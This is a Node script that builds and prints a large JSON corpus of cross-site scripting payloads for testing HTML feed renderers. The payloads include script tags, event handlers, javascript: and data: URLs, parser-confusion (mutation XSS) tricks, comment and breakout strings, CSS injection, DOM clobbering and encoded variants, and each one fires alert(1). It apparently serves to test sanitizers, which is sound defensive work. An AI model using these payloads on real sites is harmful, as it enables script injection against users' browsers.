// Attacks on whoever shows a feed as HTML, made from the classes of attack. Each tries `alert(1)`.
//
//   node attacks.mjs > attacks.json      [{ "class": "handler", "markup": "<img src=x onerror=alert(1)>" }, …]

const RUN = 'alert(1)';
/** The shortest thing that runs by itself where it is parsed as HTML. */
const IMG = `<img src=x onerror=${RUN}>`;

/** Ways to write a script's address that some parser reads as `javascript:`. */
const SCRIPT_ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\tjavascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript&#x3a;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `javascript://comment%0a${RUN}`,
  `javascript:void(${RUN})`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `feed:javascript:${RUN}`,
  `feed:data:text/html,<script>${RUN}</script>`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!/`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
  `data:,${RUN}`,
  `blob:${RUN}`,
  `filesystem:${RUN}`,
  `about:blank`,
];

/** Elements that take an address; `%` is where it stands. */
const ADDRESS_PLACES = [
  `<a href="%">x</a>`,
  `<a href='%'>x</a>`,
  `<iframe src="%"></iframe>`,
  `<object data="%"></object>`,
  `<embed src="%">`,
  `<form action="%"><button>x</button></form>`,
];

/** The same, tried with the plain spelling only. */
const MORE_ADDRESS_PLACES = [
  `<a href=%>x</a>`,
  '<a href=`%`>x</a>',
  `<a xlink:href="%">x</a>`,
  `<a href="https://a.example/" ping="%">x</a>`,
  `<area href="%">`,
  `<map name=m><area shape=default href="%"></map><img usemap=#m src=x>`,
  `<form><button formaction="%">x</button></form>`,
  `<form><input type=submit formaction="%"></form>`,
  `<form><input type=image src=x formaction="%"></form>`,
  `<form id=f></form><button form=f formaction="%">x</button>`,
  `<isindex action="%" type=submit>`,
  `<base href="%//"><a href="/x">x</a>`,
  `<link rel=stylesheet href="%">`,
  `<link rel=import href="%">`,
  `<meta http-equiv=refresh content="0;url=%">`,
  `<meta http-equiv=refresh content="0; %">`,
  `<frameset><frame src="%"></frameset>`,
  `<img src="%">`,
  `<img srcset="% 1x">`,
  `<img longdesc="%" src=x>`,
  `<img dynsrc="%" lowsrc="%">`,
  `<image src="%">`,
  `<input type=image src="%">`,
  `<bgsound src="%">`,
  `<video src="%" autoplay></video>`,
  `<video poster="%"></video>`,
  `<audio src="%" autoplay></audio>`,
  `<track src="%">`,
  `<source src="%">`,
  `<body background="%">`,
  `<table background="%"><tr><td background="%">x</table>`,
  `<blockquote cite="%">x</blockquote>`,
  `<ins cite="%">x</ins><del cite="%">x</del><q cite="%">x</q>`,
  `<svg><a href="%"><text y=20>x</text></a></svg>`,
  `<svg><a xlink:href="%"><text y=20>x</text></a></svg>`,
  `<svg><use href="%"></use></svg>`,
  `<svg><image href="%"></image></svg>`,
  `<svg><script href="%"></script></svg>`,
  `<svg><a><animate attributeName=href values="%"></animate><text y=20>x</text></a></svg>`,
  `<svg><a><set attributeName=href to="%"></set><text y=20>x</text></a></svg>`,
  `<svg><animate xlink:href=#t attributeName=href values="%"/><a id=t><text y=20>x</text></a></svg>`,
  `<math href="%">x</math>`,
  `<math><maction actiontype=statusline#% xlink:href="%">x</maction></math>`,
  `<math><mrow xlink:href="%"><mtext>x</mtext></mrow></math>`,
  `<applet code="%"></applet>`,
  `<object><param name=movie value="%"></object>`,
  `<object classid=x codebase="%"></object>`,
  `<portal src="%"></portal>`,
  `<fencedframe src="%"></fencedframe>`,
  `<iframe srcdoc="<a href='%'>x</a>"></iframe>`,
  `<layer src="%"></layer><ilayer src="%"></ilayer>`,
  `<xml src="%"></xml>`,
  `<script src="%"></script>`,
  `<div style="background:url(%)">x</div>`,
  `<div style="behavior:url(%)">x</div>`,
  `<div style="-moz-binding:url(%)">x</div>`,
  `<style>@import '%';</style>`,
  `<style>li{list-style-image:url("%")}</style><li>x`,
  `<a href="https://a.example/" target="%">x</a>`,
  `<amp-iframe src="%"></amp-iframe>`,
  `<noscript><a href="%">x</a></noscript>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<sCrIpT >${RUN}</sCrIpT >`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script\u0000>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}`,
  `<script>${RUN}//`,
  `<script type=module>${RUN}</script>`,
  `<script type=text/vbscript>${RUN}</script>`,
  `<script language=javascript>${RUN}</script>`,
  `<script async defer>${RUN}</script>`,
  `<script src=data:,${RUN}></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//third.test/x.js></script>`,
  `<script>/*</script>*/${RUN}</script>`,
  `<script><!--\n${RUN}\n--></script>`,
  `<script>//<![CDATA[\n${RUN}\n//]]></script>`,
  `<script x=">">${RUN}</script>`,
  `<script x='>'>${RUN}</script>`,
  `<script =">${RUN}</script>">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>alert&#40;1)</script></svg>`,
  `<svg><script><![CDATA[${RUN}]]></script></svg>`,
  `<svg><script/href=data:,${RUN} /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${RUN}</svg:script>`,
  `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${RUN}</html:script>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `</p><script>${RUN}</script><p>`,
  `<b><script>${RUN}</b></script>`,
  `<table><script>${RUN}</script></table>`,
  `<select><script>${RUN}</script></select>`,
  `<noscript><script>${RUN}</script></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`,
  `<frameset><noframes><script>${RUN}</script></noframes></frameset>`,
];

/** Elements that run a handler of their own accord, or when touched. */
const HANDLERS = [
  IMG,
  `<img src onerror=${RUN}>`,
  `<img src=x:x onerror=${RUN}>`,
  `<img srcset=x onerror=${RUN}>`,
  `<picture><source srcset=x><img onerror=${RUN}></picture>`,
  `<image src=x onerror=${RUN}>`,
  `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<body onhashchange=${RUN}><a href=#x>x</a>`,
  `<body onfocus=${RUN}>`,
  `<body onresize=${RUN}>`,
  `<frameset onload=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<iframe src=about:blank onload=${RUN}></iframe>`,
  `<object onerror=${RUN} data=x:x></object>`,
  `<embed src=x onload=${RUN}>`,
  `<video onerror=${RUN}><source></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<audio onloadstart=${RUN}><source src=x></audio>`,
  `<track default src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<input onfocus=${RUN} autofocus><input autofocus>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<button autofocus onfocus=${RUN}>x</button>`,
  `<button onclick=${RUN}>x</button>`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${RUN}>x</div>`,
  `<button commandfor=d command=show-modal>x</button><dialog id=d ontoggle=${RUN}>x</dialog>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<details ontoggle=${RUN}><summary>x</summary></details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<marquee width=1 loop=1 onfinish=${RUN}>x</marquee>`,
  `<style onload=${RUN}></style>`,
  `<style onload=${RUN}>x{}</style>`,
  `<link rel=stylesheet href=data:text/css, onload=${RUN}>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<script src=x onerror=${RUN}></script>`,
  `<a href=x onclick=${RUN}>x</a>`,
  `<a href=# onmouseover=${RUN}>x</a>`,
  `<a tabindex=1 onfocus=${RUN}>x</a>`,
  `<p onmouseover=${RUN}>x</p>`,
  `<p onpointerenter=${RUN}>x</p>`,
  `<p onpointerdown=${RUN}>x</p>`,
  `<p onmousedown=${RUN}>x</p>`,
  `<p onmouseup=${RUN}>x</p>`,
  `<p onmousemove=${RUN}>x</p>`,
  `<p onwheel=${RUN}>x</p>`,
  `<p ontouchstart=${RUN}>x</p>`,
  `<p oncontextmenu=${RUN}>x</p>`,
  `<p ondblclick=${RUN}>x</p>`,
  `<p oncopy=${RUN}>x</p>`,
  `<p oncut=${RUN} contenteditable>x</p>`,
  `<p onpaste=${RUN}>x</p>`,
  `<p ondragstart=${RUN} draggable=true>x</p>`,
  `<p ondrop=${RUN}>x</p>`,
  `<p onkeydown=${RUN} tabindex=0>x</p>`,
  `<p onkeyup=${RUN}>x</p>`,
  `<p onkeypress=${RUN}>x</p>`,
  `<p oninput=${RUN} contenteditable>x</p>`,
  `<p onbeforeinput=${RUN}>x</p>`,
  `<p onscroll=${RUN}>x</p>`,
  `<p onscrollend=${RUN}>x</p>`,
  `<p onselectstart=${RUN}>x</p>`,
  `<p onanimationstart=${RUN} style=animation-name:x>x</p><style>@keyframes x{}</style>`,
  `<p ontransitionend=${RUN}>x</p>`,
  `<p oncontentvisibilityautostatechange=${RUN} style=display:block;content-visibility:auto>x</p>`,
  `<p onbeforematch=${RUN} hidden=until-found>x</p>`,
  `<p onfocusin=${RUN} tabindex=0>x</p>`,
  `<p onbeforecopy=${RUN}>x</p>`,
  `<p onauxclick=${RUN}>x</p>`,
  `<form onsubmit=${RUN}><button>x</button></form>`,
  `<form oninput=${RUN}><input></form>`,
  `<form onreset=${RUN}><button type=reset>x</button></form>`,
  `<input oninvalid=${RUN} required>`,
  `<input onchange=${RUN}>`,
  `<label onclick=${RUN}>x</label>`,
  `<map name=m><area shape=default href=# onclick=${RUN}></map>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><g onload=${RUN}></g></svg>`,
  `<svg><image href=x onerror=${RUN}></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><animateTransform onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><animate onend=${RUN} attributeName=x dur=1ms>`,
  `<svg><discard onbegin=${RUN}>`,
  `<svg><foreignObject>${IMG}</foreignObject></svg>`,
  `<svg><desc>${IMG}</desc></svg>`,
  `<svg><title>${IMG}</title></svg>`,
  `<math><mi onclick=${RUN}>x</mi></math>`,
  `<math><mtext>${IMG}</mtext></math>`,
  `<math><annotation-xml encoding=text/html>${IMG}</annotation-xml></math>`,
  `<x onclick=${RUN}>x</x>`,
  `<x-y onclick=${RUN}>x</x-y>`,
  `<x id=x tabindex=1 onfocus=${RUN}>x</x>`,
  `<p is=x onclick=${RUN}>x</p>`,
  `<br onclick=${RUN}>`,
  `<hr onclick=${RUN}>`,
  `<time onclick=${RUN}>x</time>`,
  `<ruby onclick=${RUN}><rt onclick=${RUN}>x</ruby>`,
  `<table onclick=${RUN}><caption onclick=${RUN}>x<tr onclick=${RUN}><td onclick=${RUN}>x</table>`,
  `<dialog open onclick=${RUN}>x</dialog>`,
  `<fieldset onclick=${RUN}><legend onclick=${RUN}>x</fieldset>`,
  `<meter onclick=${RUN}></meter><progress onclick=${RUN}></progress>`,
  `<canvas onclick=${RUN}></canvas>`,
  `<isindex onclick=${RUN}>`,
  `<bgsound onpropertychange=${RUN}>`,
  `<xss onafterscriptexecute=${RUN}>`,
  `<font onclick=${RUN}>x</font><center onclick=${RUN}>x</center>`,
  `<ol><li onclick=${RUN}>x</ol><dl><dt onclick=${RUN}>x<dd onclick=${RUN}>x</dl>`,
];

/** `<img src=x onerror=alert(1)>` as parsers may be made to misread it. */
const SPELLINGS = [
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x\tonerror=${RUN}>`,
  `<img src=x\nonerror=${RUN}>`,
  `<img src=x\fonerror=${RUN}>`,
  `<img src=x\ronerror=${RUN}>`,
  `<img src="x"onerror=${RUN}>`,
  `<img src='x'onerror=${RUN}>`,
  `<img src=x onerror ="${RUN}">`,
  `<img src=x onerror= "${RUN}">`,
  `<img src=x onerror\n=\n'${RUN}'>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x onerror=&#x61;lert(1)>`,
  `<img src=x onerror="alert&lpar;1&rpar;">`,
  '<img src=x onerror=`' + RUN + '`>',
  `<img src=x ONERROR=${RUN}>`,
  `<IMG SRC=x oNeRrOr=${RUN}>`,
  `<img src=x \u0000onerror=${RUN}>`,
  `<img src=x on\u0000error=${RUN}>`,
  `<img src=x =onerror=${RUN}>`,
  `<img src=x " onerror=${RUN}>`,
  `<img src=x ' onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x/ onerror=${RUN}//`,
  `<img src=x onerror=${RUN} <p>x`,
  `<img src=x onerror=${RUN}//>`,
  `<img src="x\`>" onerror=${RUN}>`,
  `<img alt="<x" src=x onerror=${RUN}>`,
  `<img alt=">" src=x onerror=${RUN}>`,
  `<img src=x a='>' onerror=${RUN}>`,
  `<img src=x onerror=${RUN} onerror=x>`,
  `<img src=x onerror="${RUN};" x="`,
  `<img\u00a0src=x onerror=${RUN}>`,
  `<img src=x title="&quot; onerror=${RUN} x=&quot;">`,
  `<img src=x title='" onerror=${RUN} x="'>`,
  `<img src=x alt="\`\`onerror=${RUN}">`,
  `<img src=x xmlns:on="x" on:error=${RUN} onerror=${RUN}>`,
  `< img src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN}\u2028>`,
  `\ufeff${IMG}`,
  `\u0000${IMG}`,
  `<\u0000img src=x onerror=${RUN}>`,
  `</x ${IMG.slice(1)}${IMG}`,
  `<%${IMG}%>`,
  `<p/>${IMG}`,
  `<p>${IMG}</p`,
  `<p ${IMG}>`,
  `<a href="${IMG}">x</a>`,
  `<a title='${IMG}'>x</a>`,
  `<img src='${IMG}'>`,
];

/** Elements whose content is text, or another language, to one parser and markup to the next. */
const RAW = ['style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext', 'textarea', 'title', 'template', 'select', 'option'];
const FOREIGN = ['svg', 'math', 'svg><desc', 'svg><foreignObject', 'svg><title', 'math><mtext', 'math><mi', 'math><annotation-xml', 'math><annotation-xml encoding=text/html'];

function* misread() {
  for (const raw of RAW) {
    yield `<${raw}>${IMG}</${raw}>`;
    yield `<${raw}><p title="</${raw}>${IMG}">`;
    yield `<${raw}><!--</${raw}>${IMG}-->`;
    yield `<${raw}/>${IMG}`;
    yield `<${raw}></${raw}x>${IMG}</${raw}>${IMG}`;
    for (const foreign of ['svg', 'math', 'math><mtext', 'svg><desc', 'math><annotation-xml encoding=text/html']) {
      yield `<${foreign}><${raw}>${IMG}`;
      yield `<${foreign}><${raw}><a title="</${raw}>${IMG}">`;
    }
  }
  for (const foreign of FOREIGN) {
    yield `<${foreign}></p><style><a title="</style>${IMG}">`;
    yield `<${foreign}><mglyph><style><!--</style><a title="--&gt;${IMG.replace('<', '&lt;').replace('>', '&gt;')}">`;
    yield `<${foreign}><table><mglyph><style><![CDATA[</style><a title="]]&gt;${IMG.replace('<', '&lt;').replace('>', '&gt;')}">`;
    yield `<form><${foreign}></form><form><mglyph><style></math>${IMG}`;
    yield `<${foreign}><![CDATA[>${IMG}]]>`;
    yield `<${foreign}><!--${IMG}-->${IMG}`;
    yield `<${foreign}><font color=x><p>${IMG}`;
    yield `<${foreign}><malignmark><b>${IMG}`;
  }
  yield `<table><td><form><form>${IMG}</table>`;
  yield `<table>${IMG}<tr><td>x`;
  yield `<table><a href="javascript:${RUN}"><tr><a>x</table>`;
  yield `<select><option><select>${IMG}`;
  yield `<select><button><selectedcontent></selectedcontent></button><option>${IMG}</select>`;
  yield `<a><table><a href="javascript:${RUN}">x</table></a>`;
  yield `<h1><h2>${IMG}</h1>`;
  yield `<ruby><rt><rt>${IMG}</ruby>`;
  yield `<dir><li><dir>${IMG}`;
  yield `<p><svg><p>${IMG}`;
  yield `<button><p><button>${IMG}`;
  yield `<nobr><nobr>${IMG}<nobr>`;
  yield `<b><b><b><b><b><p>${IMG}</b>`;
  for (const deep of [50, 300, 600]) {
    yield '<div>'.repeat(deep) + '<svg><style>' + IMG;
    yield '<b>'.repeat(deep) + IMG;
    yield '<table><tr><td>'.repeat(deep / 10) + '<math><mtext><style>' + IMG;
  }
}

const COMMENTS = [
  `<!--${IMG}-->`,
  `<!-->${IMG}-->`,
  `<!--->${IMG}-->`,
  `<!-- --!>${IMG}-->`,
  `<!-- -- >${IMG}-->`,
  `<!--<!-->${IMG}-->`,
  `<!--[if IE]>${IMG}<![endif]-->`,
  `<![if IE]>${IMG}<![endif]>`,
  `<comment>${IMG}</comment>`,
  `<!${IMG}`,
  `<!>${IMG}`,
  `<?${IMG}?>`,
  `<?xml version="1.0"?>${IMG}`,
  `<?xml-stylesheet href="javascript:${RUN}"?>${IMG}`,
  `<?php ?>${IMG}`,
  `</>${IMG}`,
  `</ >${IMG}`,
  `</!${IMG}>`,
  `<![CDATA[${IMG}]]>`,
  `<![CDATA[<script>]]>${RUN}<![CDATA[</script>]]>`,
  `<![CDATA[x]]>${IMG}`,
  `]]>${IMG}`,
  `<!DOCTYPE x [<!ENTITY e "${IMG}">]>&e;`,
  `<!DOCTYPE html SYSTEM "javascript:${RUN}">${IMG}`,
  `-->${IMG}`,
  `--><script>${RUN}</script>`,
];

/** What leaves the place it was put in, wherever that is. */
const BREAKOUTS = [
  ...['div', 'body></html', 'p', 'td></tr></table', 'li></ul', 'a', 'title', 'textarea', 'script', 'style', 'noscript', 'xmp', 'iframe', 'template', 'svg', 'math', 'select', 'option', 'button', 'form', 'article', 'span', 'b'].map((end) => `</${end}>${IMG}`),
  `"${'>'}${IMG}`,
  `'>${IMG}`,
  '`>' + IMG,
  `" onmouseover=${RUN} x="${IMG}`,
  `' onmouseover=${RUN} x='${IMG}`,
  `</div></div></div></div><h1>x</h1>`,
  `</td></tr></table></div><h1>x</h1>`,
  `<div><div><div>x`,
  `<table><tr><td>x`,
  `<ul><li><ul><li>x`,
  `<b><i><a href=https://a.example/>x`,
  `<img src="x`,
  `<img src='x`,
  `<a href="https://a.example/`,
  `<a title="`,
  `<p title='`,
  `<p title=`,
  `<p `,
  `<p`,
  `<`,
  `</`,
  `</p`,
  `<!`,
  `<!-`,
  `<!--`,
  `<!-- x`,
  `<![CDATA[`,
  `<![CDATA[ x`,
  `<?`,
  `<?x`,
  `<x y="`,
  `<x y='`,
  `<x `,
  `<me@a.example `,
  `<me@a.example "`,
  `</x y="`,
  `<textarea>`,
  `<title>`,
  `<plaintext>`,
  `<xmp>`,
  `<style>`,
  `<script>`,
  `<noscript>`,
  `<iframe>`,
  `<noembed>`,
  `<noframes>`,
  `<select>`,
  `<template>`,
  `<svg>`,
  `<math>`,
  `<form>`,
  `<button>`,
  `<frameset>`,
  `<object>`,
  `<video>`,
  `<audio>`,
  `<details>`,
  `<option>`,
  `<caption>`,
  `<col>`,
  `<tr>`,
  `<html><head><body>`,
];

const STYLES = [
  `<style>*{display:none}</style>`,
  `<style>@import url(http://third.test/x.css)</style>`,
  `<p style="position:fixed;inset:0;background:red">x</p>`,
  `<p style="background:url(http://third.test/x)">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="xss:e/**/xpression(${RUN})">x</p>`,
  `<p style="background:u\\72l(http://third.test/x)">x</p>`,
  `<p style="--x:url(http://third.test/x);background:var(--x)">x</p>`,
  `<p style=animation:x onanimationstart=${RUN}>x</p>`,
  `<link rel=stylesheet href=http://third.test/x.css>`,
  `<table style="position:absolute"><tr style="color:red"><td style=x:y>x</table>`,
  `<svg style="position:fixed"><style>*{fill:red}</style></svg>`,
  `<font style=position:fixed size=9 color=red>x</font>`,
  `<p class=overlay>x</p>`,
];

/** Names that stand for something on a page. */
const CLOBBERS = ['body', 'cookie', 'forms', 'location', 'getElementById', 'querySelector', 'attributes', 'nodeName', 'parentNode', 'self', 'top', 'config', '__proto__', 'constructor', 'defaultView']
  .flatMap((name) => [
    `<a href="#${name}">x</a><p id=${name}>x</p>`,
    `<img name=${name} src=x>`,
    `<a id=${name}></a><a id=${name} name=${name} href="https://a.example/">x</a><a href="#${name}">y</a>`,
  ])
  .concat([
    `<form id=x><input name=attributes><input name=parentNode></form>`,
    `<form name=body><input id=appendChild></form>`,
    `<iframe name=self srcdoc=x></iframe>`,
    `<object name=document data=x></object>`,
    `<embed name=forms>`,
    `<a name=x></a><a href=#x>y</a>`,
    `<base target=top>`,
    `<html id=a><head id=b><body id=c>x`,
  ]);

const EMBEDS = [
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc='<img src=x onerror="parent.${RUN}">'></iframe>`,
  `<iframe src=http://third.test/></iframe>`,
  `<iframe src="http://third.test/" onload=${RUN}></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<object type=text/html data=http://third.test/></object>`,
  `<object><object data=x:x onerror=${RUN}></object></object>`,
  `<embed type=text/html src=http://third.test/>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>">`,
  `<applet archive=http://third.test/ code=x></applet>`,
  `<video controls><track kind=captions src=http://third.test/ default></video>`,
  `<link rel=preload as=image href=http://third.test/>`,
  `<meta http-equiv=refresh content=0;url=http://third.test/>`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">${IMG}`,
  `<meta http-equiv=set-cookie content=x=1>`,
  `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<base href=http://third.test/><img src=x>`,
  `<portal src=http://third.test/></portal>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"></use></svg>`,
  `<svg><feImage href=http://third.test/></svg>`,
  `<form action=http://third.test/><input name=x value=y><button>x</button></form>`,
  `<button form=x formaction=http://third.test/>x</button>`,
];

/** Text that means markup one level down, or in another character set: it stays text. */
const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&#x3Cimg src=x onerror=${RUN}>`,
  `&#00060script>${RUN}`,
  `&lt${IMG}`,
  `&LT;img src=x onerror=${RUN}&GT;`,
  `<b>&lt;script&gt;${RUN}&lt;/script&gt;</b>`,
  `<p title="&lt;img src=x onerror=${RUN}&gt;">x</p>`,
  `<p title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">x</p>`,
  `<img alt="&lt;/textarea&gt;&lt;img src=x onerror=${RUN}&gt;" src=x>`,
  `<code>${IMG.replace('<', '&lt;')}</code>`,
  `+ADw-img src=x onerror=${RUN}+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `&#xD83D;&#xDE00;${IMG}`,
  `&#0;${IMG}`,
  `&#x110000;${IMG}`,
  `&nosuch;${IMG}`,
  `\u202e${IMG}`,
  `\u200b<\u200bscript>${RUN}</script>`,
];

function* attacks() {
  for (const markup of SCRIPTS) yield { class: 'script', markup };
  for (const markup of HANDLERS) yield { class: 'handler', markup };
  for (const markup of SPELLINGS) yield { class: 'spelling', markup };
  for (const address of SCRIPT_ADDRESSES) {
    for (const place of ADDRESS_PLACES.slice(0, 1)) yield { class: 'address', markup: place.replaceAll('%', address) };
    // The address itself, for fields that hold one.
    yield { class: 'bare address', markup: address };
  }
  for (const place of ADDRESS_PLACES.concat(MORE_ADDRESS_PLACES))
    for (const address of [SCRIPT_ADDRESSES[0], 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==']) yield { class: 'address', markup: place.replaceAll('%', address) };
  for (const markup of misread()) yield { class: 'misread', markup };
  for (const markup of COMMENTS) yield { class: 'comment', markup };
  for (const markup of BREAKOUTS) yield { class: 'breakout', markup };
  for (const markup of STYLES) yield { class: 'style', markup };
  for (const markup of CLOBBERS) yield { class: 'clobber', markup };
  for (const markup of EMBEDS) yield { class: 'embed', markup };
  for (const markup of ENCODED) yield { class: 'encoded', markup };
}

const seen = new Set();
const all = [...attacks()].filter(({ markup }) => !seen.has(markup) && seen.add(markup));
process.stdout.write(JSON.stringify(all));
